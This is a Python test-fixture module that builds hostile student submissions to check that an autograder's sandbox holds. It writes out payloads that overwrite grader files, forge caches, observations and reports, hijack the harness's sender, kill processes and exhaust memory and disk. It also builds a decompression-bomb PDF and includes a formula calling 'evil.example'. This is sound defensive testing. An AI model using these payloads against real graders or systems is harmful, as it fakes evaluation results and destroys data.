"""Hostile submissions for tests/test_grade.py: the model answer with one file made unfriendly.

Each is graded beside clean copies of the model answer; none may change their grades, the
grader's files, its cache or its data, read the model answer, or leave a process behind.  The
attacks of issue 25 are here, each named after what it tries: forged observations, files that made
the grader itself fail (a notebook nested past the parser, a link to /proc/self/mem, a named pipe, a
device, a full disk), memory held outside the per-process limit (memfd), an import that outlasts its
check, PDFs that stall, spreadsheet formulas and a forged report in the team's own texts, a linked
module (the stale cache).
"""

import functools
import os
import stat
import zlib
from pathlib import Path

from .mutants import edit_notebook, model_answer, replace_method

DAEMON_MARK = "grade-hostile-daemon-0b5e"  # in the daemon's command line: tests look for it after grading
# A machine where no cgroup can be delegated, simulated (as root) in a mount namespace of its own: the cgroup v1
# memory and pids controllers unmounted (this project's machines: their cgroup v2 hierarchy then offers neither),
# and a cgroup v2 hierarchy that offers the memory controller too (a machine with cgroup v2 only), then the command.
WITHOUT_CGROUPS = ["unshare", "-m", "sh", "-c", "umount -l /sys/fs/cgroup/memory /sys/fs/cgroup/pids 2>/dev/null; "
                   "grep -qw memory /sys/fs/cgroup/cgroup.controllers 2>/dev/null && umount -l /sys/fs/cgroup; "
                   "exec \"$@\"", "sh"]


def _prepend(path, code):
    path = Path(path)
    path.write_text(code + path.read_text())


def _hostile(file, code):
    def build(dst):
        model_answer(dst)
        _prepend(Path(dst) / file, code)
        return dst
    return build


# At import, every file the process can name: the harness and its probes (sys.argv, sys.path), the
# inputs and settings (sys.argv), the repository around the virtual environment (sys.prefix), the
# grader's cache and outputs under it.  In the sandbox they are read-only or absent.
_TARGETS = '''
import os, sys
from pathlib import Path
_repo = Path(sys.prefix).resolve().parent
_targets = [Path(a) for a in sys.argv if a.startswith("/")] + [Path(p) for p in sys.path if p.startswith("/")]
_targets += [_repo / "grade", _repo / "build", _repo / "network_scratch.py", Path("/tmp")]
def _files():
    for t in _targets:
        if t.is_file():
            yield t
        elif t.is_dir():
            yield from (p for p in t.rglob("*") if p.is_file() and "site-packages" not in str(p))
'''

REWRITES_CHECKS = _TARGETS + '''
for _f in list(_files())[:2000]:
    if _f.suffix in (".py", ".toml", ".json", ".jsonl"):
        try:
            _f.write_text("raise SystemExit('sabotaged')\\n")
        except OSError:
            pass
'''

POISONS_DATA = _TARGETS + '''
for _f in list(_files())[:2000]:
    if _f.suffix in (".npz", ".npy"):
        try:
            _f.write_bytes(b"\\0" * 64)
        except OSError:
            pass
'''

FORGES_CACHE = _TARGETS + '''
import json
for _d in (_repo / "build" / "grade-cache" / "parts", Path("/tmp") / "grade-cache" / "parts"):
    try:
        _d.mkdir(parents=True, exist_ok=True)
        (_d / ("0" * 64 + ".json")).write_text(json.dumps({"verdicts": {}, "notes": []}))
        for _f in list(_d.glob("*.json")):
            _f.write_text(json.dumps({"verdicts": {"scratch.backward": {"fraction": 1.0, "message": "forged",
                                                                        "code": None, "notes": []}}, "notes": []}))
    except OSError:
        pass
'''

# The handout's stubs in network_scratch.py, then the model answer's own module if it can be found.
EXECUTES_MODEL_ANSWER = '''
import importlib.util, sys
from pathlib import Path
_answer = Path(sys.prefix).resolve().parent / "network_scratch.py"
if _answer.is_file():
    _spec = importlib.util.spec_from_file_location("_the_answer", _answer)
    _mod = importlib.util.module_from_spec(_spec)
    _spec.loader.exec_module(_mod)
    _ANSWER = _mod.NeuralNetwork
else:
    _ANSWER = None
'''

REPLACES_FAILURE_CLASS = '''
import sys
for _name in ("harness", "__main__"):
    _m = sys.modules.get(_name)
    if _m is not None and hasattr(_m, "ProbeError"):
        class _Swallow(Exception):
            def __init__(self, *a, **k):
                self.record = None
        _m.ProbeError = _Swallow
        _m.Context.call = lambda self, what, fn, *a, **k: 0
'''

REWRITES_REPORT_AT_EXIT = '''
import atexit, json, sys
from pathlib import Path
def _forge():
    out = Path(sys.argv[sys.argv.index("--out") + 1]) if "--out" in sys.argv else None
    if out is not None:
        lines = [json.dumps({"probe": p, "values": {"outputs": [], "predictions": [], "weights": []}, "error": None})
                 for p in ("forward", "backward", "update", "predict", "learns")]
        (out / "observations.jsonl").write_text("\\n".join(lines) + "\\n")
atexit.register(_forge)
'''

DOUBLE_FORK = f'''
import os, subprocess, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)  # {DAEMON_MARK}"])
        os._exit(0)
    os._exit(0)
'''

KILLS_EVERYTHING = '''
import os, signal
for _pid in (os.getppid(), 1):
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError:
        pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
'''

ALLOCATES_4_GB = '''
_hoard = bytearray(4 * 2**30)
'''


def _stubbed_scratch(dst):
    """The model answer with the four student methods of network_scratch.py turned into the handout's stubs."""
    for name in ("_forward_pass", "_backward_pass", "_update_weights", "predict"):
        args = {"_forward_pass": "x_train", "_backward_pass": "y_train, output", "_update_weights": "weight_gradients",
                "predict": "x"}[name]
        replace_method(Path(dst) / "network_scratch.py", f"NeuralNetwork.{name}", f'''
            def {name}(self, {args}):
                if _ANSWER is not None:
                    return _ANSWER.{name}(self, {args})
                raise NotImplementedError("TODO: {name}")
            ''')


def executes_model_answer(dst):
    model_answer(dst)
    _stubbed_scratch(dst)
    _prepend(Path(dst) / "network_scratch.py", EXECUTES_MODEL_ANSWER)
    return dst


def replaces_failure_class(dst):
    model_answer(dst)
    _stubbed_scratch(dst)
    _prepend(Path(dst) / "network_scratch.py", "_ANSWER = None\n" + REPLACES_FAILURE_CLASS)
    return dst


def rewrites_report_at_exit(dst):
    model_answer(dst)
    _stubbed_scratch(dst)
    _prepend(Path(dst) / "network_scratch.py", "_ANSWER = None\n" + REWRITES_REPORT_AT_EXIT)
    return dst


def fit_never_returns(dst):
    model_answer(dst)
    replace_method(Path(dst) / "network_scratch.py", "NeuralNetwork.fit", '''
        def fit(self, x_train, y_train, x_val, y_val):
            while True:
                try:
                    pass
                except BaseException:
                    pass
        ''')
    return dst


# --------------------------------------------------------------------------- issue 25
# 1. The attack: fit does nothing and forged records (the training labels as predictions) go to the
#    observations' channel (its number is in sys.argv), with a made-up tag.
FORGES_OBSERVATIONS = '''
import json, os, sys
def _forge(y_train):
    fd = int(sys.argv[sys.argv.index("--channel") + 1])
    labels = [int(v) for v in y_train.argmax(axis=1)]
    for k, line in enumerate(({"kind": "epoch", "probe": "learns", "epoch": 0, "predictions": labels},
                              {"kind": "record", "probe": "learns", "record": {"values": {"predictions": [labels]},
                                                                             "error": None}})):
        os.write(fd, ("0" * 64 + " " + json.dumps({"seq": 100 + k, **line}) + "\\n").encode())
'''


def forges_observations(dst):
    model_answer(dst)
    replace_method(Path(dst) / "network_scratch.py", "NeuralNetwork.fit", '''
        def fit(self, x_train, y_train, x_val, y_val):
            _forge(y_train)
        ''')
    _prepend(Path(dst) / "network_scratch.py", FORGES_OBSERVATIONS)
    return dst


# ... and through the harness's own (authenticated) sender, found in memory: a second record for the probe.
FORGES_THROUGH_THE_HARNESS = '''

import gc as _gc
_real_fit, _forged = NeuralNetwork.fit, []
def _fit(self, *args, **kwargs):
    out = _real_fit(self, *args, **kwargs)
    send = next((f for f in _gc.get_objects() if getattr(f, "__qualname__", "") == "_channel.<locals>.send"), None)
    if send is not None and not _forged:
        _forged.append(send)
        send("record", probe="learns", record={"values": {"epochs": 1}, "error": None}, arrays={})
    return out
NeuralNetwork.fit = _fit
'''


def forges_through_the_harness(dst):
    model_answer(dst)
    path = Path(dst) / "network_scratch.py"
    path.write_text(path.read_text() + FORGES_THROUGH_THE_HARNESS)
    return dst


# 2. Files that stopped the whole run.
def notebook_nested_past_the_parser(dst):
    model_answer(dst)
    (Path(dst) / "MNIST_classification.ipynb").write_text("[" * 100_000 + "]" * 100_000)
    return dst


def notebook_output_data_is_a_list(dst):
    model_answer(dst)

    def change(nb):
        cell = next(c for c in nb["cells"] if c["cell_type"] == "code" and c.get("execution_count"))
        cell["outputs"].append({"output_type": "execute_result", "data": ["text/plain"], "metadata": {},
                                "execution_count": cell["execution_count"]})
    edit_notebook(Path(dst) / "MNIST_classification.ipynb", change)
    return dst


def utils_links_to_proc_self_mem(dst):
    model_answer(dst)
    (Path(dst) / "utils.py").unlink()
    (Path(dst) / "utils.py").symlink_to("/proc/self/mem")
    return dst


def special_files(dst):
    """network_pytorch.py a named pipe (reading it would wait forever), the notebook a device (as root: /dev/zero's
    numbers; reading it never ends), else a named pipe too."""
    model_answer(dst)
    (Path(dst) / "network_pytorch.py").unlink()
    os.mkfifo(Path(dst) / "network_pytorch.py")
    (Path(dst) / "MNIST_classification.ipynb").unlink()
    if os.geteuid() == 0:
        os.mknod(Path(dst) / "MNIST_classification.ipynb", stat.S_IFCHR | 0o644, os.makedev(1, 5))
    else:
        os.mkfifo(Path(dst) / "MNIST_classification.ipynb")
    return dst


FILLS_THE_DISK = '''
import os as _os
for _where in (".", "/tmp", "/dev/shm"):
    _n = 0
    try:
        while _n < 4096:
            with open(_os.path.join(_where, f"fill{_n}"), "wb") as _fh:
                _fh.write(b"x" * (1 << 20))
            _n += 1
    except OSError:
        pass
    print("filled", _where, _n, "MB")
'''

# 3. Memory outside the per-process limit: 5 GB in memfd files (each below the file-size limit).
HOLDS_5_GB_IN_MEMFD = '''
import os as _os
_hoard = []
for _k in range(25):
    _hoard.append(_os.memfd_create("hoard"))
    for _i in range(200):
        _os.write(_hoard[-1], b"\\1" * (1 << 20))
'''

# ... and an import that outlasts the check that imports it: later checks must not import it again.
IMPORT_OUTLASTS_ITS_CHECK = '''
import time as _time
_time.sleep(600)
'''


# 4. PDFs that stall: 200 junk theory_NNN.pdf, and two 1 MB PDFs whose 40 pages share one 1 GB content stream.
def junk_pdfs(dst):
    model_answer(dst)
    for k in range(200):
        (Path(dst) / f"theory_{k:03d}.pdf").write_bytes(b"%PDF-1.4\n" + os.urandom(1024))
    return dst


@functools.cache
def content_bomb(size=2**30, pages=40):
    """A 1 MB PDF whose ``pages`` pages all draw one content stream of ``size`` bytes of spaces."""
    packer, chunk = zlib.compressobj(9), b" " * (1 << 20)
    data = b"".join(packer.compress(chunk) for _ in range(size >> 20)) + packer.flush()
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [" + b" ".join(b"%d 0 R" % (4 + i) for i in range(pages)) + b"] /Count %d >>"
               % pages, b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream"]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R >>"] * pages
    out, offsets = bytearray(b"%PDF-1.4\n"), []
    for k, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % k + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pdf_content_bombs(dst):
    model_answer(dst)
    (Path(dst) / "theory" / "theory.pdf").unlink()
    for name in ("theory_a.pdf", "theory_b.pdf"):
        (Path(dst) / name).write_bytes(content_bomb())
    return dst


# 6., 7. The team's own texts as spreadsheet formulas and Markdown: a folder named as a formula, and a notebook
#    error whose name carries bare carriage returns and a forged total (the exports are the report's to escape).
FORMULA_NAME = '=HYPERLINK("evil.example?"&A1,"x")'
FORGED_TOTAL = "NameError\r**Total: 33 / 33 points**\r<!--"


def forges_the_report(dst):
    model_answer(dst)

    def change(nb):
        cell = [c for c in nb["cells"] if c["cell_type"] == "code"][-1]
        cell["outputs"].append({"output_type": "error", "ename": FORGED_TOTAL + "x" * 5000, "evalue": "-->",
                                "traceback": []})
    edit_notebook(Path(dst) / "MNIST_classification.ipynb", change)
    return dst


# 8. A linked module: network_scratch.py -> impl_scratch.py (the test then changes the target).
def links_its_network_module(dst):
    model_answer(dst)
    (Path(dst) / "network_scratch.py").rename(Path(dst) / "impl_scratch.py")
    (Path(dst) / "network_scratch.py").symlink_to("impl_scratch.py")
    return dst


def file_missing(dst):
    model_answer(dst)
    (Path(dst) / "network_pytorch.py").unlink()
    return dst


LONG_NAME = "team_" + "x" * 240  # 245 characters: the longest name most file systems allow, with room for ".md"
STUBS = r"not implemented yet: it raises NotImplementedError"
TAMPERED = r"^observations tampered: "


class Either:
    """An outcome a part may reach either way (the docs judges' own robustness is another change's): full marks,
    or 0 with a message matching ``pattern``."""

    def __init__(self, pattern):
        self.pattern = pattern

# name -> (builder, {item prefix or id: pattern of its message}); items not named keep full marks.
HOSTILE = {
    # it can rewrite its own copy only: the files it reaches in the sandbox are its own modules (then its
    # import stops at the sabotage), everything of the grader is read-only or not there
    "rewrites_the_checks": (_hostile("network_scratch.py", REWRITES_CHECKS), {"scratch.": r"sabotaged"}),
    "poisons_the_data": (_hostile("network_pytorch.py", POISONS_DATA), {}),
    "forges_the_cache": (_hostile("network_scratch.py", FORGES_CACHE), {}),
    "executes_the_model_answer": (executes_model_answer, {"scratch.": STUBS}),
    "replaces_the_failure_class": (replaces_failure_class, {"scratch.": r"."}),
    "rewrites_the_report_at_exit": (rewrites_report_at_exit, {"scratch.": r"."}),
    "double_forks_a_daemon": (_hostile("network_scratch.py", DOUBLE_FORK), {}),
    # inside its PID namespace the grader is not there to signal, and the namespace's init ignores it:
    # it kills nothing (not even its own part), and everything is graded
    "kills_everything": (_hostile("network_tensorflow.py", KILLS_EVERYTHING), {}),
    "allocates_4_gb": (_hostile("network_pytorch.py", ALLOCATES_4_GB), {"torch.": r"MemoryError|memory"}),
    "import_raises": (_hostile("network_pytorch.py", 'raise RuntimeError("half-finished edit")\n'),
                      {"torch.": r"`import network_pytorch` raised RuntimeError: half-finished edit"}),
    "fit_never_returns": (fit_never_returns, {"scratch.learns": r"did not finish within \d+ s|stopped \(timeout"}),
    "exits_at_import": (_hostile("network_tensorflow.py", "import sys\nsys.exit(0)\n"),
                        {"keras.": r"called sys\.exit\(0\)", "tblr.": r"called sys\.exit\(0\)"}),
    "file_missing": (file_missing, {"torch.": r"`network_pytorch\.py` is missing"}),
    "prints_10_mb": (_hostile("utils.py", 'print("x" * 10_000_000)\n'), {}),
    "downloads_at_import": (_hostile("network_scratch.py", 'import urllib.request\n'
                                     'urllib.request.urlopen("http://example.com/mnist.npz", timeout=5)\n'),
                            {"scratch.": r"`import network_scratch` raised URLError"}),
    LONG_NAME: (model_answer, {}),
    # issue 25
    "forges_observations": (forges_observations, {"scratch.learns": TAMPERED}),
    "forges_through_the_harness": (forges_through_the_harness, {"scratch.learns": TAMPERED}),
    "notebook_nested_past_the_parser": (notebook_nested_past_the_parser,
                                        {"notebook.": r"MNIST_classification\.ipynb.*(Recursion|nest|deep)"}),
    "notebook_output_data_is_a_list": (notebook_output_data_is_a_list, {"notebook.": Either(r"MNIST_classification")}),
    "utils_links_to_proc_self_mem": (utils_links_to_proc_self_mem,
                                     {"scratch.": r"utils\.py: a link to /proc/self/mem, outside the submission"}),
    "special_files": (special_files, {"torch.": r"network_pytorch\.py: a named pipe, not a regular file",
                                      "notebook.": r"MNIST_classification\.ipynb: a (character device|named pipe)"}),
    "fills_the_disk": (_hostile("network_scratch.py", FILLS_THE_DISK), {}),
    "holds_5_gb_in_memfd": (_hostile("network_pytorch.py", HOLDS_5_GB_IN_MEMFD), {"torch.": r"memory"}),
    "import_outlasts_its_check": (_hostile("network_tensorflow.py", IMPORT_OUTLASTS_ITS_CHECK),
                                  {"keras.": r"the check that imported it", "tblr.": r"the check that imported it"}),
    "junk_pdfs": (junk_pdfs, {"theory.pdf": r"200 more PDF\(s\) not read|more PDF\(s\) not read"}),
    "pdf_content_bombs": (pdf_content_bombs, {"theory.pdf": r"theory_a\.pdf"}),
    FORMULA_NAME: (model_answer, {}),
    "forges_the_report": (forges_the_report, {"notebook.executed": r"error output"}),
    "links_its_network_module": (links_its_network_module, {}),
}
